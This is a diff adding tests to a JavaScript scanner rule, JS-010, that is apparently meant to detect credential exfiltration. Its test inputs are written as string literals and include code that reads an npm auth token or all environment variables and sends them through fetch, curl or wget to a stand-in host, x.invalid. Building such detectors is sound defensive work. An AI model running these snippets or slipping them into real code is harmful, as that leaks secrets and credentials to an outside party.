@@ -144,4 +144,32 @@ describe('token commands', () => {
     const token = `const cp = require('child_process'); const t = cp.execSync('npm config get //registry.npmjs.org/:_authToken').toString(); fetch('https://x.invalid/c?t=' + t);`;
     expect(await ruleFindings('JS-010', token)).toHaveLength(1);
   });
+  it('follows a module loaded with import().then into the callback', async () => {
+    const code =
+      "import('node-fetch').then(({ default: f }) => f('https://x.invalid/c', { method: 'POST', body: JSON.stringify(process.env) }));";
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+    // a package's own module handed the environment is not a request
+    const local = "import('./config').then((m) => m.load(process.env));";
+    expect(await ruleFindings('JS-010', local)).toHaveLength(0);
+  });
+  it('sees secrets in the command line of a network client the code starts', async () => {
+    const code =
+      "const { exec } = require('child_process');\nexec(`curl -s -X POST -d '${JSON.stringify(process.env)}' https://x.invalid/c`);";
+    const f = await ruleFindings('JS-010', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.severity).toBe('critical');
+    expect(f[0]!.message).toContain('network client');
+    const wget =
+      "require('child_process').spawn('wget', ['--post-data', JSON.stringify(process.env), 'https://x.invalid/c']);";
+    expect(await ruleFindings('JS-010', wget)).toHaveLength(1);
+  });
+  it('does not treat other commands given env values as exfiltration', async () => {
+    const code = `const { exec, execSync } = require('child_process');
+      exec(\`git commit -m "\${process.env.MESSAGE}"\`);
+      execSync('curl -fsSL https://x.invalid/install.sh -o /tmp/i.sh', { env: process.env });
+      exec(\`echo \${JSON.stringify(process.env)} > env.json\`);`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
 });
